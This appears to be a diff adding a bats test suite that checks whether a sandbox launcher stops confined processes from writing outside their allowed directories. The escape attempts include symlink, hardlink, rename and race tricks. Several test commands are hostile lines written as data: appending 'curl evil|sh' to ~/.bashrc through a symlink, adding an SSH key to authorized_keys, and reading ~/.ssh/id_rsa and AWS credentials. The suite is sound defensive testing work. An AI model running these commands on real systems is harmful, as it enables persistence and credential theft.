@@ -1,0 +1,213 @@
+#!/usr/bin/env bats
+# Writing outside the writable roots (THREATS FS-01/02/03/04/09/11/12/13,
+# LCH-03, PRC-08, FS-15): symlinks, hardlinks, renames, truncation,
+# attributes, races and the supervisor's own files.  Judged on the host:
+# files unchanged, nothing created.
+
+load ../lib/common
+source "$BATS_TEST_DIRNAME/_lib.bats"
+
+setup() { esc_setup; }
+teardown() { esc_teardown; }
+
+@test "write outside: \$HOME, /etc and /var/tmp (dynamic, static, raw)" {
+	before=$(snap "$HOME/.bashrc")
+	out="$T/outside"
+	run xsbx -c "echo x > $HOME/new1; touch $out.1; $SBX_SYS.static creat $HOME/new2; $SBX_SYS creat $out.2; $SBX_SYS.static creat /etc/sbx-$MARK; $SBX_SYS -l creat $out.3; env -u LD_PRELOAD touch $out.4; true"
+	echo "$output"
+	UNIQ_FILES+=("/etc/sbx-$MARK")
+	assert_absent "$HOME/new1" "$HOME/new2" "$out.1" "$out.2" "$out.3" "$out.4" "/etc/sbx-$MARK"
+	assert_unchanged "$before" "$HOME/.bashrc"
+}
+
+@test "write outside: the attempt fails with an errno (static)" {
+	run xsbx -- "$SBX_SYS.static" creat "$HOME/new"
+	echo "$output"
+	denied
+	assert_absent "$HOME/new"
+}
+
+@test "FS-02 symlink in the project to ~/.bashrc, append through it (dynamic + static)" {
+	before=$(snap "$HOME/.bashrc")
+	ln -s "$HOME/.bashrc" "$P/notes.txt"
+	run xsbx -c "echo 'curl evil|sh' >> notes.txt; $SBX_SYS.static write notes.txt; $SBX_SYS write notes.txt; true"
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.bashrc"
+}
+
+@test "FS-02 dangling symlink to ~/.ssh/authorized_keys, created inside" {
+	run xsbx -c "ln -s $HOME/.ssh/authorized_keys ak; echo ssh-rsa AAAA >> ak; $SBX_SYS.static symlink $HOME/.ssh/authorized_keys ak2; $SBX_SYS.static write ak2; true"
+	echo "$output"
+	assert_absent "$HOME/.ssh/authorized_keys"
+}
+
+@test "FS-03 ancestor symlink: project/link -> ~/.config, write link/newdir/evil" {
+	ln -s "$HOME/.config" "$P/link"
+	run xsbx -c "mkdir -p link/newdir && echo x > link/newdir/evil; $SBX_SYS.static mkdir link/nd2; $SBX_SYS.static creat link/nd2/evil; $SBX_SYS.static creat link/evil3; true"
+	echo "$output"
+	assert_absent "$HOME/.config/newdir" "$HOME/.config/nd2" "$HOME/.config/evil3"
+}
+
+@test "FS-04 hardlink ~/.bashrc into the project, then append (static + ln)" {
+	before=$(snap "$HOME/.bashrc")
+	run xsbx -c "$SBX_SYS.static link $HOME/.bashrc b; $SBX_SYS.static write b; ln $HOME/.bashrc b2 && echo evil >> b2; true"
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.bashrc"
+	# the link count tells whether a hardlink was made at all
+	[ "$(stat -c %h "$HOME/.bashrc")" = 1 ]
+}
+
+@test "FS-04 rename a project file over ~/.bashrc / move ~/.bashrc into the project" {
+	before=$(snap "$HOME/.bashrc" "$HOME/.profile")
+	echo evil > "$P/payload"
+	run xsbx -c "$SBX_SYS.static rename payload $HOME/.bashrc; mv -f payload $HOME/.profile; $SBX_SYS.static rename $HOME/.bashrc $P/stolen; $SBX_SYS.static exchange $P/payload $HOME/.bashrc; true"
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.bashrc" "$HOME/.profile"
+	assert_absent "$P/stolen"
+}
+
+@test "FS-09 truncate(~/.bashrc) and open(O_RDONLY|O_TRUNC)" {
+	echo "important" >> "$HOME/.bashrc"
+	before=$(snap "$HOME/.bashrc")
+	run xsbx -c "$SBX_SYS.static trunc $HOME/.bashrc; $SBX_SYS.static otrunc $HOME/.bashrc; truncate -s0 $HOME/.bashrc; : > $HOME/.bashrc; true"
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.bashrc"
+}
+
+@test "FS-09 truncate a read-only file gives an errno (static)" {
+	run xsbx -- "$SBX_SYS.static" otrunc "$HOME/.bashrc"
+	echo "$output"
+	denied
+	run xsbx -- "$SBX_SYS.static" trunc "$HOME/.bashrc"
+	denied
+}
+
+@test "FS-11 chmod/chown/utimes/setxattr on files outside the writable roots" {
+	before=$(snap "$HOME/.bashrc" "$HOME/.ssh")
+	run xsbx -c "$SBX_SYS.static chmod $HOME/.bashrc 777; $SBX_SYS.static utime $HOME/.bashrc; $SBX_SYS.static setxattr $HOME/.bashrc; $SBX_SYS.static chmod $HOME/.ssh 777; chmod 000 $HOME/.bashrc; touch -d 2001-01-01 $HOME/.bashrc; true"
+	echo "$output"
+	if full_mode; then
+		assert_unchanged "$before" "$HOME/.bashrc" "$HOME/.ssh"
+		[ -z "$(getfattr -n user.sbxattack "$HOME/.bashrc" 2>/dev/null)" ]
+	else
+		# Landlock has no attribute right: the mode must be honest.
+		assert_unchanged "$before" "$HOME/.bashrc" "$HOME/.ssh" ||
+			plan_says_advisory 'chmod|attribute|metadata'
+	fi
+}
+
+@test "FS-12 reopen /proc/self/fd/N of a read-only file for writing" {
+	before=$(snap "$HOME/.bashrc")
+	run xsbx -- "$SBX_FS.static" reopen "$HOME/.bashrc" a
+	echo "$output"
+	denied
+	run xsbx -- "$SBX_FS" reopen "$HOME/.bashrc" w
+	denied
+	assert_unchanged "$before" "$HOME/.bashrc"
+}
+
+@test "FS-01 TOCTOU: swap a project file for a symlink to ~/.bashrc while appending" {
+	before=$(snap "$HOME/.bashrc")
+	run xsbx -- "$SBX_FS.static" toctou "$P/work" "$HOME/.bashrc" 3000
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.bashrc"
+}
+
+@test "sysctl and /proc writes are refused" {
+	h=$(cat /proc/sys/kernel/hostname)
+	run xsbx -- "$SBX_SYS.static" creat /proc/sys/kernel/hostname "$h"
+	echo "$output"
+	denied
+	run xsbx -- "$SBX_SYS.static" write /proc/self/attr/current x
+	[ "$(cat /proc/sys/kernel/hostname)" = "$h" ]
+}
+
+@test "FS-13 --report FILE replaced by a symlink to ~/.bashrc from inside" {
+	before=$(snap "$HOME/.bashrc")
+	run xsbx --report "$P/r.json" -c "ln -sf $HOME/.bashrc $P/r.json; cat ~/.ssh/id_rsa; true"
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.bashrc"
+}
+
+@test "FS-13 --report DIR/FILE whose directory is swapped for a symlink to \$HOME" {
+	mkdir -p "$P/out"
+	run xsbx --report "$P/out/r.json" -c "mv $P/out $P/out.old; ln -s $HOME $P/out; true"
+	echo "$output"
+	assert_absent "$HOME/r.json"
+	run xsbx --report "$P/out2/r.json" -c "ln -s $HOME/.config $P/out2; true"
+	assert_absent "$HOME/.config/r.json"
+}
+
+# The state directory of the launcher (where run directories live) as the
+# sandbox sees it: two levels above the compiled policy.
+plant_in_state_dir() {	# extra sbxrun args...
+	run xsbx "$@" -c 'p=${SBXRUN_POLICY:-/tmp/sbxrun-$(id -u)/x/policy}; base=$(dirname "$(dirname "$p")"); echo "base=$base"; ln -s '"$HOME"'/.ssh "$base/run-2147483000-'"$MARK"'" && echo PLANTED; true'
+	echo "$output"
+	base=$(printf '%s\n' "$output" | sed -n 's/^base=//p')
+	UNIQ_FILES+=("$base/run-2147483000-$MARK")
+}
+
+@test "FS-13/LCH-03 a symlink planted in the launcher's state dir is not followed by the next run" {
+	before=$(snap "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials")
+	plant_in_state_dir
+	# a second run (its stale-run cleanup walks the state dir)
+	run xsbx -- true
+	assert_unchanged "$before" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"
+	[[ "$output" != *PLANTED* ]]
+}
+
+@test "FS-13/LCH-03 the same with --allow-write ~/.cache (a common grant for tool caches)" {
+	mkdir -p "$HOME/.cache"
+	before=$(snap "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials")
+	plant_in_state_dir --allow-write "$HOME/.cache"
+	run xsbx -- true
+	assert_unchanged "$before" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"
+	planted=$output
+	run xsbx --allow-write "$HOME/.cache" -c 'd=$(dirname "$SBXRUN_POLICY"); mv "$d" "$d.gone" && ln -s '"$HOME"'/.aws "$d" && echo SWAPPED; true'
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"
+	# LCH-03: the launcher's state must stay read-only inside even when
+	# its parent directory is granted
+	[[ "$planted$output" != *PLANTED* && "$output" != *SWAPPED* ]]
+}
+
+@test "LCH-03 the run directory swapped for a symlink during the run" {
+	before=$(snap "$HOME/.ssh/id_rsa")
+	run xsbx -c 'd=$(dirname "$SBXRUN_POLICY"); echo "rundir=$d"; mv "$d" "$d.gone" && ln -s '"$HOME"'/.ssh "$d" && echo SWAPPED; true'
+	echo "$output"
+	assert_unchanged "$before" "$HOME/.ssh/id_rsa"
+	[[ "$output" != *SWAPPED* ]]
+}
+
+@test "LCH-03/SHM-10 the compiled policy file cannot be rewritten from inside" {
+	run xsbx -c 'p=$SBXRUN_POLICY; echo "policy=$p"; test -n "$p" || { echo "RESULT -1 ENOENT (no shim policy)"; exit 0; }; chmod u+w "$p" 2>/dev/null; (echo garbage > "$p") 2>/dev/null && echo REWROTE-SH; '"$SBX_SYS.static"' write "$p" x'
+	echo "$output"
+	[[ "$output" != *REWROTE-SH* ]]
+	denied
+}
+
+@test "PRC-08 RLIMIT_FSIZE caps a file; ftruncate to 1 TiB fails" {
+	printf 'limits = { fsize = "1M"; };\n' > "$HOME/.config/sbxrun/config"
+	run xsbx -c "dd if=/dev/zero of=big bs=1M count=3 2>&1; $SBX_SYS.static bigfile sparse; true"
+	echo "$output"
+	[ "$(stat -c %s "$P/big")" -le 1048576 ]
+	[[ "$output" == *"FTRUNCATE EFBIG"* ]]
+	[ "$(stat -c %s "$P/sparse")" -le 1048576 ]
+}
+
+@test "FS-15 memfd_create + execveat: the fileless program is still confined" {
+	run xsbx -- "$SBX_SYS.static" memfd_exec "$SBX_SYS.static" read "$HOME/.ssh/id_rsa"
+	echo "$output"
+	no_canary "$output"
+	before=$(snap "$HOME/.bashrc")
+	run xsbx -- "$SBX_SYS.static" memfd_exec "$SBX_SYS.static" write "$HOME/.bashrc"
+	assert_unchanged "$before" "$HOME/.bashrc"
+}
+
+@test "FS-06 suffix rule: rename/link/O_TMPFILE cannot produce a forbidden name (shim)" {
+	mkdir -p "$P/notes"
+	printf 'paths = ( { root = "%s/notes"; mode = "rw"; suffixes = [ ".md" ]; } );\n' "$P" > "$HOME/.config/sbxrun/config"
+	run xsbx -c "cd notes; echo a > a.md; mv a.md a.sh; echo b > b.md; ln b.md b.sh; $PY -c 'import os; os.rename(\"b.md\", \"c.sh\")'; echo x > d.sh; ls"
+	echo "$output"
+	assert_absent "$P/notes/a.sh" "$P/notes/b.sh" "$P/notes/c.sh" "$P/notes/d.sh"
+}
